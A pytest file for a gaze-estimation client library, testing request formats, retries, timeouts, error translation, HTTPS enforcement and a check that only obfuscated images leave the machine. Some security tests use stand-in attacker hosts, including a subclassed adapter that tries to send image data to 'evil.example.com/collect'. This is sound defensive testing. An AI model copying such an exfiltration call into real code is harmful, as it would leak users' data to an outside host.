"""The gaze client and its adapters: request formats, retries, timeouts, error translation and the egress check.

Faults are injected with `httpx.MockTransport`; connection refusal and slow servers use real sockets on 127.0.0.1.
Waits between attempts go through an injected `sleep`, so no test asserts on a backoff's wall-clock time.
"""

from __future__ import annotations

import asyncio
import base64
import email
import email.utils
import gzip
import http.server
import io
import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta, timezone

import httpx
import numpy as np
import pytest
from PIL import Image

from privategaze import obfuscated
from privategaze.adapters import (
    ADAPTERS,
    CallableAdapter,
    HttpJsonAdapter,
    HttpJsonConfig,
    MultipartAdapter,
    MultipartConfig,
    ResponseSpec,
)
from privategaze.client import AsyncGazeClient, ClientConfig, GazeClient, RetryPolicy
from privategaze.errors import (
    ConfigError,
    EgressError,
    RemoteConnectionError,
    RemoteError,
    RemoteHTTPError,
    RemoteRateLimitError,
    RemoteResponseError,
    RemoteTimeoutError,
)
from privategaze.geometry import pitchyaw_to_vector

URL = "https://gaze.example.com/v1/gaze"
NO_JITTER = RetryPolicy(jitter=0.0)
GAZE = {"gaze": {"pitch": 0.1, "yaw": -0.2}}


@pytest.fixture
def image() -> obfuscated.ObfuscatedImage:
    pixels = np.random.default_rng(0).integers(0, 256, (16, 16, 3), dtype=np.uint8)
    return obfuscated._make(pixels, model="m", blackbox=None, anchor_sha256=None, timestamp_ms=7)


class Recorder:
    """A MockTransport handler answering from a script, recording every request; and a fake sleep."""

    def __init__(self, *answers: httpx.Response | Exception | Callable[[httpx.Request], httpx.Response]) -> None:
        self.answers = list(answers)
        self.requests: list[httpx.Request] = []
        self.sleeps: list[float] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        answer = self.answers[min(len(self.requests), len(self.answers)) - 1]  # the last one repeats
        if isinstance(answer, Exception):
            raise answer
        return answer(request) if callable(answer) else answer

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)

    def client(self, adapter=None, config: ClientConfig | None = None) -> GazeClient:
        adapter = adapter or HttpJsonAdapter(HttpJsonConfig(URL))
        config = config or ClientConfig(retry=NO_JITTER)
        return GazeClient(adapter, config, transport=httpx.MockTransport(self), sleep=self.sleep)


def _png_pixels(data: bytes) -> np.ndarray:
    return np.asarray(Image.open(io.BytesIO(data)).convert("RGB"))


# --- request and answer formats -----------------------------------------------------------------------------------


def test_defaults_speak_the_reference_service(image):
    recorder = Recorder(httpx.Response(200, json=GAZE))
    with recorder.client() as client:
        result = client.estimate(image)
    (request,) = recorder.requests
    assert request.method == "POST" and str(request.url) == URL
    body = json.loads(request.content)
    assert set(body) == {"image"}
    np.testing.assert_array_equal(_png_pixels(base64.b64decode(body["image"])), image.pixels)  # lossless PNG
    assert result.pitch_yaw_rad == (0.1, -0.2)
    assert (result.attempts, result.model, result.timestamp_ms) == (1, "m", 7)
    assert result.latency_ms >= 0 and recorder.sleeps == []


def test_vector_api_with_nested_field_data_url_and_bearer_token(image):
    expected = np.array([0.3, -0.25])

    def answer(request: httpx.Request) -> httpx.Response:
        assert request.headers["authorization"] == "Bearer s3cret"
        body = json.loads(request.content)
        assert body["model"] == "gaze-v2" and body["input"]["crop"] is True
        assert body["input"]["face"].startswith("data:image/jpeg;base64,")
        jpeg = base64.b64decode(body["input"]["face"].split(",", 1)[1])
        assert jpeg[:2] == b"\xff\xd8"
        vector = pitchyaw_to_vector(expected) * 2.5  # any length
        return httpx.Response(200, json={"result": {"gaze_vector": vector.tolist()}})

    config = HttpJsonConfig(
        URL,
        encoding="jpeg",
        image_field="input.face",
        image_format="data-url",
        extra_fields={"model": "gaze-v2", "input": {"crop": True}},
        bearer_token="s3cret",
        response=ResponseSpec(vector_path="result.gaze_vector"),
    )
    assert "s3cret" not in repr(config)
    recorder = Recorder(answer)
    with recorder.client(HttpJsonAdapter(config)) as client:
        result = client.estimate(image)
    np.testing.assert_allclose(result.pitch_yaw_rad, expected, atol=1e-12)


def test_degrees_with_flipped_signs_and_a_list_index(image):
    answer = {"results": [{"gaze": {"p": -10.0, "y": 20}}]}
    spec = ResponseSpec(
        pitch_path="results.0.gaze.p", yaw_path="results.0.gaze.y", units="deg", flip_pitch=True, flip_yaw=True
    )
    recorder = Recorder(httpx.Response(200, json=answer))
    with recorder.client(HttpJsonAdapter(HttpJsonConfig(URL, response=spec, method="PUT"))) as client:
        result = client.estimate(image)
    assert recorder.requests[0].method == "PUT"
    np.testing.assert_allclose(result.pitch_yaw_rad, np.radians([10.0, -20.0]))


def test_vector_signs_map_another_axis_convention(image):
    # An API whose z axis points from the camera towards the viewer: flip z to get this SDK's convention.
    vector = pitchyaw_to_vector(np.array([0.2, 0.4])) * np.array([1, 1, -1])
    spec = ResponseSpec(vector_path="v", vector_signs=(1, 1, -1))
    recorder = Recorder(httpx.Response(200, json={"v": vector.tolist()}))
    with recorder.client(HttpJsonAdapter(HttpJsonConfig(URL, response=spec))) as client:
        np.testing.assert_allclose(client.estimate(image).pitch_yaw_rad, (0.2, 0.4), atol=1e-12)


def _multipart_parts(request: httpx.Request) -> dict[str, email.message.Message]:
    head = f"Content-Type: {request.headers['content-type']}\r\n\r\n".encode()
    message = email.message_from_bytes(head + request.content)
    return {part.get_param("name", header="content-disposition"): part for part in message.get_payload()}


def test_multipart_uploads_the_png_with_extra_fields(image):
    def answer(request: httpx.Request) -> httpx.Response:
        assert request.headers["x-api-key"] == "k"
        parts = _multipart_parts(request)
        assert parts["face"].get_filename() == "face.png" and parts["face"].get_content_type() == "image/png"
        np.testing.assert_array_equal(_png_pixels(parts["face"].get_payload(decode=True)), image.pixels)
        assert parts["mode"].get_payload() == "fast"
        return httpx.Response(200, json=GAZE)

    config = MultipartConfig(URL, file_field="face", extra_fields={"mode": "fast"}, headers={"X-API-Key": "k"})
    recorder = Recorder(answer)
    with recorder.client(MultipartAdapter(config)) as client:
        assert client.estimate(image).pitch_yaw_rad == (0.1, -0.2)


def test_callable_adapter_gets_read_only_obfuscated_pixels(image):
    seen = []

    def black_box(pixels: np.ndarray) -> np.ndarray:
        seen.append(pixels)
        return pitchyaw_to_vector(np.array([-0.1, 0.3]))[None]  # a batch of one 3-vector

    with GazeClient(CallableAdapter(black_box)) as client:
        result = client.estimate(image)
    np.testing.assert_allclose(result.pitch_yaw_rad, (-0.1, 0.3), atol=1e-12)
    assert seen[0].shape == (16, 16, 3) and seen[0].dtype == np.uint8 and not seen[0].flags.writeable


def test_callable_adapter_failures_become_remote_errors(image):
    def broken(pixels):
        raise ValueError("model exploded")

    with GazeClient(CallableAdapter(broken), sleep=pytest.fail) as client, pytest.raises(RemoteError) as info:
        client.estimate(image)
    assert type(info.value) is RemoteError and info.value.attempts == 1 and "model exploded" in str(info.value)

    calls = []

    def slow(pixels):
        calls.append(1)
        raise TimeoutError("busy")

    sleeps = []
    client = GazeClient(CallableAdapter(slow), ClientConfig(retry=NO_JITTER), sleep=sleeps.append)
    with client, pytest.raises(RemoteTimeoutError) as info:
        client.estimate(image)
    assert info.value.attempts == len(calls) == 3 and sleeps == [0.2, 0.4]

    with GazeClient(CallableAdapter(lambda pixels: "up")) as client, pytest.raises(RemoteResponseError):
        client.estimate(image)


ADAPTER_CASES = {
    "http-json": lambda: ADAPTERS["http-json"](HttpJsonConfig(URL)),
    "multipart": lambda: ADAPTERS["multipart"](MultipartConfig(URL)),
    "callable": lambda: ADAPTERS["callable"](lambda pixels: (0.1, -0.2)),
}


def test_every_adapter_is_tested():
    assert set(ADAPTER_CASES) == set(ADAPTERS)


@pytest.mark.parametrize("name", sorted(ADAPTERS))
def test_every_adapter_round_trips(name, image):
    recorder = Recorder(httpx.Response(200, json=GAZE))
    adapter = ADAPTER_CASES[name]()
    client = recorder.client(adapter) if name != "callable" else GazeClient(adapter)
    with client:
        assert client.estimate(image).pitch_yaw_rad == (0.1, -0.2)
    assert len(recorder.requests) == (0 if name == "callable" else 1)


def test_configs_round_trip_through_dicts():
    spec = ResponseSpec(vector_path="a.0.b", vector_signs=(1, -1, 1))
    json_config = HttpJsonConfig(URL, extra_fields={"x": {"y": 1}}, headers={"X-K": "v"}, response=spec)
    multipart = MultipartConfig(URL, filename="f.jpg", encoding="jpeg", extra_fields={"a": "b"})
    client = ClientConfig(timeout_s=2, connect_timeout_s=1, retry=RetryPolicy(max_attempts=5))
    for config in (json_config, multipart, client, spec):
        data = json.loads(json.dumps(config.to_dict()))
        assert type(config).from_dict(data) == config


@pytest.mark.parametrize(
    ("make", "match"),
    [
        (lambda: RetryPolicy(max_attempts=0), "max_attempts"),
        (lambda: RetryPolicy(max_attempts=11), "max_attempts"),
        (lambda: RetryPolicy(retry_statuses=(404,)), "retry_statuses"),
        (lambda: RetryPolicy(jitter=2), "jitter"),
        (lambda: ClientConfig(timeout_s=1, connect_timeout_s=2), "connect_timeout_s"),
        (lambda: ClientConfig(timeout_s=0), "timeout_s"),
        (lambda: HttpJsonConfig("ftp://gaze.example.com"), "url"),
        (lambda: HttpJsonConfig(URL, image_field="a..b"), "image_field"),
        (lambda: HttpJsonConfig(URL, extra_fields={"image": 1}), "already has"),
        (lambda: HttpJsonConfig(URL, extra_fields={"x": float("nan")}), "JSON"),
        (lambda: HttpJsonConfig(URL, bearer_token="t", headers={"Authorization": "x"}), "bearer_token"),
        (lambda: HttpJsonConfig(URL, encoding="webp"), "encoding"),
        (lambda: MultipartConfig(URL, extra_fields={"image": "x"}), "already has"),
        (lambda: ResponseSpec(vector_path="v", units="deg"), "units"),
        (lambda: ResponseSpec(vector_path="v", pitch_path="p"), "either"),
        (lambda: ResponseSpec(pitch_path="p"), "yaw_path"),
        (lambda: ClientConfig.from_dict({"timeout": 1}), "unknown"),
    ],
)
def test_invalid_configs_are_config_errors(make, match):
    with pytest.raises(ConfigError, match=match):
        make()


# --- retries and faults ---------------------------------------------------------------------------------------------


def test_timeouts_are_retried_then_raised(image):
    recorder = Recorder(httpx.ReadTimeout("slow"))
    with recorder.client() as client, pytest.raises(RemoteTimeoutError) as info:
        client.estimate(image)
    assert info.value.attempts == len(recorder.requests) == 3
    assert recorder.sleeps == [0.2, 0.4]  # exponential backoff, no jitter
    assert "gave up after 3 attempts" in str(info.value)


def test_a_500_then_a_200_succeeds_on_the_second_attempt(image, caplog):
    recorder = Recorder(httpx.Response(500, text="oops"), httpx.Response(200, json=GAZE))
    with recorder.client() as client:
        result = client.estimate(image)
    assert result.attempts == 2 and result.pitch_yaw_rad == (0.1, -0.2)
    assert recorder.sleeps == [0.2]
    assert "attempt 1/3 failed" in caplog.text


def test_a_persistent_503_is_an_http_error(image):
    recorder = Recorder(httpx.Response(503, text="down for maintenance"))
    with recorder.client() as client, pytest.raises(RemoteHTTPError) as info:
        client.estimate(image)
    assert type(info.value) is RemoteHTTPError and info.value.status_code == 503
    assert info.value.attempts == 3 and "down for maintenance" in str(info.value)


@pytest.mark.parametrize("status", [302, 400, 401, 404, 422])
def test_client_errors_and_redirects_are_not_retried(status, image):
    headers = {"Location": "http://attacker.example.com/"} if status == 302 else {}
    recorder = Recorder(httpx.Response(status, headers=headers))
    with recorder.client() as client, pytest.raises(RemoteHTTPError) as info:
        client.estimate(image)
    assert info.value.status_code == status and info.value.attempts == len(recorder.requests) == 1
    assert recorder.sleeps == []


def test_retry_after_replaces_the_backoff(image):
    recorder = Recorder(httpx.Response(429, headers={"Retry-After": "0.1"}), httpx.Response(200, json=GAZE))
    with recorder.client() as client:
        result = client.estimate(image)
    assert result.attempts == 2 and recorder.sleeps == [0.1]


def test_retry_after_over_the_cap_stops_at_once(image):
    recorder = Recorder(httpx.Response(429, headers={"Retry-After": "60"}), httpx.Response(200, json=GAZE))
    with recorder.client() as client, pytest.raises(RemoteRateLimitError) as info:
        client.estimate(image)
    assert info.value.retry_after_s == 60 and info.value.status_code == 429
    assert info.value.attempts == len(recorder.requests) == 1 and recorder.sleeps == []
    assert "max_retry_after_s" in str(info.value)


def test_retry_after_as_an_http_date(image):
    future = email.utils.format_datetime(datetime.now(timezone.utc) + timedelta(hours=1), usegmt=True)
    recorder = Recorder(httpx.Response(429, headers={"Retry-After": future}))
    with recorder.client() as client, pytest.raises(RemoteRateLimitError) as info:
        client.estimate(image)
    assert 3500 < info.value.retry_after_s <= 3600 and info.value.attempts == 1

    past = "Wed, 21 Oct 2015 07:28:00 GMT"
    recorder = Recorder(httpx.Response(429, headers={"Retry-After": past}), httpx.Response(200, json=GAZE))
    with recorder.client() as client:
        assert client.estimate(image).attempts == 2
    assert recorder.sleeps == [0.0]


def test_persistent_429_without_retry_after(image):
    recorder = Recorder(httpx.Response(429))
    with recorder.client() as client, pytest.raises(RemoteRateLimitError) as info:
        client.estimate(image)
    assert info.value.attempts == 3 and info.value.retry_after_s is None and recorder.sleeps == [0.2, 0.4]


@pytest.mark.parametrize(
    ("body", "match"),
    [
        (b"<html>Bad gateway</html>", "not JSON"),
        (b'{"gaze": {"pitch": 0.1}}', "'gaze.yaw'"),
        (b'{"gazes": []}', "no 'gaze'"),
        (b'{"gaze": {"pitch": NaN, "yaw": 0}}', "finite"),
        (b'{"gaze": {"pitch": 0.1, "yaw": 4.0}}', "beyond"),
        (b'{"gaze": {"pitch": "0.1", "yaw": 0}}', "number"),
        (b'{"gaze": {"pitch": true, "yaw": 0}}', "number"),
    ],
)
def test_malformed_answers_are_response_errors(body, match, image):
    recorder = Recorder(httpx.Response(200, content=body))
    with recorder.client() as client, pytest.raises(RemoteResponseError, match=match) as info:
        client.estimate(image)
    assert info.value.attempts == len(recorder.requests) == 1  # the same answer would come again


@pytest.mark.parametrize(
    ("answer", "match"),
    [({"v": [0, 0, 0]}, "no direction"), ({"v": [1, 2]}, "3 components"), ({"v": []}, "number"), ({"w": 1}, "'v'")],
)
def test_malformed_vectors_are_response_errors(answer, match, image):
    recorder = Recorder(httpx.Response(200, json=answer))
    adapter = HttpJsonAdapter(HttpJsonConfig(URL, response=ResponseSpec(vector_path="v")))
    with recorder.client(adapter) as client, pytest.raises(RemoteResponseError, match=match):
        client.estimate(image)


def test_oversized_answers_are_refused(image):
    recorder = Recorder(httpx.Response(200, content=b" " * 5000 + json.dumps(GAZE).encode()))
    client = recorder.client(config=ClientConfig(max_response_bytes=4096))
    with client, pytest.raises(RemoteResponseError, match="over 4096 bytes"):
        client.estimate(image)


@pytest.mark.parametrize(
    ("raised", "expected", "attempts"),
    [
        (httpx.ConnectError("[Errno -2] Name or service not known"), RemoteConnectionError, 3),
        (httpx.ConnectTimeout("timed out"), RemoteTimeoutError, 3),
        (httpx.ReadError("connection reset by peer"), RemoteConnectionError, 3),
        (httpx.RemoteProtocolError("Server disconnected without sending a response."), RemoteConnectionError, 3),
        (httpx.DecodingError("bad gzip"), RemoteResponseError, 1),
        (httpx.UnsupportedProtocol("h3"), RemoteError, 1),
    ],
    ids=lambda value: type(value).__name__ if isinstance(value, Exception) else None,
)
def test_httpx_errors_are_translated_and_the_query_is_not_shown(raised, expected, attempts, image):
    recorder = Recorder(raised)
    adapter = HttpJsonAdapter(HttpJsonConfig(URL + "?key=secret"))
    with recorder.client(adapter) as client, pytest.raises(RemoteError) as info:
        client.estimate(image)
    assert type(info.value) is expected and info.value.attempts == len(recorder.requests) == attempts
    assert isinstance(info.value.__cause__, httpx.HTTPError)
    assert "secret" not in str(info.value) and "gaze.example.com/v1/gaze" in str(info.value)


def test_compressed_answers_are_decoded(image):
    headers = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
    recorder = Recorder(httpx.Response(200, content=gzip.compress(json.dumps(GAZE).encode()), headers=headers))
    with recorder.client() as client:
        assert client.estimate(image).pitch_yaw_rad == (0.1, -0.2)


@pytest.fixture
def gaze_server() -> Iterator[tuple[str, list]]:
    """A real HTTP/1.1 server on 127.0.0.1 answering the reference format; records (client port, JSON body)."""
    seen: list[tuple[int, dict]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"  # keep-alive, so connection reuse is visible

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            seen.append((self.client_address[1], body))
            answer = json.dumps(GAZE).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/gaze", seen
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def test_a_real_server_over_one_reused_connection(gaze_server, image):
    url, seen = gaze_server
    with GazeClient(HttpJsonAdapter(HttpJsonConfig(url))) as client:
        results = [client.estimate(image) for _ in range(3)]
    assert [r.pitch_yaw_rad for r in results] == [(0.1, -0.2)] * 3
    assert len(seen) == 3 and len({port for port, _ in seen}) == 1  # one httpx client, one kept-alive connection
    np.testing.assert_array_equal(_png_pixels(base64.b64decode(seen[0][1]["image"])), image.pixels)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_connection_refused_on_a_real_port(image):
    adapter = HttpJsonAdapter(HttpJsonConfig(f"http://127.0.0.1:{_free_port()}/gaze"))
    sleeps = []
    client = GazeClient(adapter, ClientConfig(timeout_s=2, retry=NO_JITTER), sleep=sleeps.append)
    with client, pytest.raises(RemoteConnectionError) as info:
        client.estimate(image)
    assert info.value.attempts == 3 and sleeps == [0.2, 0.4]


@pytest.fixture
def slow_server() -> Iterator[Callable[[bytes, bytes, float], str]]:
    """A raw HTTP server on 127.0.0.1: reads a request, sends `head` at once, then `trickle` one byte per interval."""
    stop = threading.Event()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.05)
    script: dict = {}

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            with connection:
                connection.recv(65536)
                try:
                    connection.sendall(script["head"])
                    for byte in script["trickle"]:
                        if stop.wait(script["interval_s"]):
                            break
                        connection.sendall(bytes([byte]))
                except OSError:
                    pass  # the client gave up, as it should

    thread = threading.Thread(target=serve, daemon=True)

    def start(head: bytes, trickle: bytes, interval_s: float) -> str:
        script.update(head=head, trickle=trickle, interval_s=interval_s)
        thread.start()
        return f"http://127.0.0.1:{listener.getsockname()[1]}/gaze"

    yield start
    stop.set()
    if thread.is_alive():
        thread.join(timeout=5)
    listener.close()


@pytest.mark.timeout(30)
def test_a_server_that_never_answers_times_out_bounded(slow_server, image):
    url = slow_server(b"", b"HTTP/1.1 200 OK\r\n\r\n", 30.0)  # the first byte would come after 30 s
    config = ClientConfig(timeout_s=0.2, retry=RetryPolicy(max_attempts=2, backoff_s=0.0, jitter=0.0))
    started = time.monotonic()
    with GazeClient(HttpJsonAdapter(HttpJsonConfig(url)), config) as client, pytest.raises(RemoteTimeoutError) as info:
        client.estimate(image)
    assert info.value.attempts == 2
    assert time.monotonic() - started < 5  # generous; without the timeout it would take 60 s


@pytest.mark.timeout(30)
def test_a_trickling_answer_is_cut_off_at_the_deadline(slow_server, image):
    # Each byte comes well within httpx's per-read timeout, so only the client's own deadline can stop it.
    body = json.dumps(GAZE).encode().ljust(200)
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    url = slow_server(head, body, 0.05)  # 10 s for the whole body
    config = ClientConfig(timeout_s=0.3, retry=RetryPolicy(max_attempts=1))
    started = time.monotonic()
    with GazeClient(HttpJsonAdapter(HttpJsonConfig(url)), config) as client, pytest.raises(RemoteTimeoutError) as info:
        client.estimate(image)
    assert info.value.attempts == 1
    assert time.monotonic() - started < 5


# --- transport security and egress --------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["http://gaze.example.com/v1", "http://10.0.0.5:8000/gaze", "http://127.evil.com/"])
def test_plain_http_to_a_remote_host_is_refused(url):
    adapter = HttpJsonAdapter(HttpJsonConfig(url))
    with pytest.raises(ConfigError, match="https"):
        GazeClient(adapter)
    with GazeClient(adapter, ClientConfig(allow_insecure_http=True)):
        pass


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:8000/gaze", "http://127.8.9.10/", "http://[::1]:80/", "http://localhost/", URL]
)
def test_https_and_loopback_http_are_allowed(url):
    with GazeClient(HttpJsonAdapter(HttpJsonConfig(url))):
        pass


@pytest.mark.parametrize(
    "raw",
    [
        np.zeros((16, 16, 3), np.uint8),
        Image.new("RGB", (16, 16)),
        b"\x89PNG\r\n\x1a\n",
        "face.png",
        None,
    ],
    ids=["numpy", "pil", "bytes", "path", "none"],
)
def test_anything_but_an_obfuscated_image_is_refused_and_nothing_is_sent(raw, image):
    recorder = Recorder(httpx.Response(200, json=GAZE))
    with recorder.client() as client:
        with pytest.raises(EgressError):
            client.estimate(raw)
        with pytest.raises(EgressError):
            client.estimate_many([image, raw])  # checked before the first is sent
    with httpx.Client(transport=httpx.MockTransport(recorder)) as http, pytest.raises(EgressError):
        HttpJsonAdapter(HttpJsonConfig(URL)).build_request(raw, http)
    assert recorder.requests == []


def test_a_closed_client_refuses_to_send(image):
    recorder = Recorder(httpx.Response(200, json=GAZE))
    client = recorder.client()
    client.close()
    client.close()  # idempotent
    with pytest.raises(RemoteConnectionError, match="closed"):
        client.estimate(image)
    assert recorder.requests == []


def test_the_documented_time_bound():
    config = ClientConfig(timeout_s=1.5, retry=RetryPolicy(max_attempts=4, max_backoff_s=2, max_retry_after_s=3))
    assert config.max_duration_s == 4 * 1.5 + 3 * 3


# --- async ----------------------------------------------------------------------------------------------------------


def _async_client(handler, config: ClientConfig | None = None, sleeps: list | None = None) -> AsyncGazeClient:
    async def sleep(seconds: float) -> None:
        sleeps.append(seconds)

    return AsyncGazeClient(
        HttpJsonAdapter(HttpJsonConfig(URL)),
        config or ClientConfig(retry=NO_JITTER),
        transport=httpx.MockTransport(handler),
        sleep=sleep,
    )


def test_async_client_success_and_estimate_many(image):
    recorder = Recorder(httpx.Response(200, json=GAZE))

    async def main():
        async with _async_client(recorder, sleeps=recorder.sleeps) as client:
            return await client.estimate(image), await client.estimate_many([image] * 5, max_concurrency=2)

    result, many = asyncio.run(main())
    assert result.pitch_yaw_rad == (0.1, -0.2) and result.attempts == 1
    assert [r.pitch_yaw_rad for r in many] == [(0.1, -0.2)] * 5 and len(recorder.requests) == 6


def test_async_client_retries_a_503(image):
    recorder = Recorder(httpx.Response(503), httpx.Response(503), httpx.Response(200, json=GAZE))

    async def main():
        async with _async_client(recorder, sleeps=recorder.sleeps) as client:
            return await client.estimate(image)

    assert asyncio.run(main()).attempts == 3 and recorder.sleeps == [0.2, 0.4]


def test_async_client_enforces_a_hard_deadline(image):
    requests = []

    async def hang(request: httpx.Request) -> httpx.Response:
        requests.append(request)
        await asyncio.sleep(30)
        return httpx.Response(200, json=GAZE)

    config = ClientConfig(timeout_s=0.1, retry=RetryPolicy(max_attempts=2, jitter=0.0))

    async def main():
        async with _async_client(hang, config, sleeps=[]) as client:
            with pytest.raises(RemoteTimeoutError) as info:
                await client.estimate(image)
            with pytest.raises(EgressError):
                await client.estimate(np.zeros((16, 16, 3), np.uint8))
            return info.value

    error = asyncio.run(asyncio.wait_for(main(), timeout=10))
    assert error.attempts == len(requests) == 2


def test_async_client_with_a_local_adapter_and_the_egress_check(image):
    async def main():
        async with AsyncGazeClient(CallableAdapter(lambda pixels: (0.2, 0.1))) as client:
            result = await client.estimate(image)
            with pytest.raises(EgressError):
                await client.estimate_many([image, image.pixels])
            return result

    assert asyncio.run(main()).pitch_yaw_rad == (0.2, 0.1)

    recorder = Recorder(httpx.Response(200, json=GAZE))

    async def remote():
        async with _async_client(recorder, sleeps=recorder.sleeps) as client:
            with pytest.raises(EgressError):
                await client.estimate_many([image, Image.new("RGB", (16, 16))])

    asyncio.run(remote())
    assert recorder.requests == []


class _BrokenLocalAdapter:
    """A third-party local adapter (not CallableAdapter) that misbehaves."""

    def __init__(self, behaviour):
        self.behaviour = behaviour

    def predict(self, image):
        return self.behaviour()


@pytest.mark.parametrize(
    ("behaviour", "error", "message"),
    [
        (lambda: {}["missing"], RemoteError, "KeyError"),
        (lambda: "not a gaze", RemoteResponseError, "not \\(pitch, yaw\\)"),
        (lambda: (float("nan"), 0.0), RemoteResponseError, "not angles"),
        (lambda: (0.0, 7.0), RemoteResponseError, "not angles"),
    ],
)
def test_a_third_party_local_adapter_is_translated_and_checked(behaviour, error, message):
    with GazeClient(_BrokenLocalAdapter(behaviour)) as client, pytest.raises(error, match=message):
        client.estimate(obfuscated._make(np.zeros((8, 8, 3), np.uint8), model="m", blackbox=None, anchor_sha256=None))


def test_non_ascii_headers_are_config_errors():
    with pytest.raises(ConfigError, match="ASCII"):
        HttpJsonConfig(url="https://gaze.example.com", headers={"X-Key": "clé"})
    with pytest.raises(ConfigError, match="ASCII"):
        HttpJsonConfig(url="https://gaze.example.com", bearer_token="line\nbreak")


def test_an_adapter_cannot_send_elsewhere_than_its_checked_endpoint():
    class Redirecting(HttpJsonAdapter):
        def build_request(self, image, client):
            return client.build_request("POST", "http://evil.example.com/collect", content=image.encode())

    sent = []
    transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))
    adapter = Redirecting(HttpJsonConfig(url="https://gaze.example.com/v1/gaze"))
    image = obfuscated._make(np.zeros((8, 8, 3), np.uint8), model="m", blackbox=None, anchor_sha256=None)
    with GazeClient(adapter, transport=transport) as client, pytest.raises(ConfigError, match="not to its checked"):
        client.estimate(image)
    assert sent == []
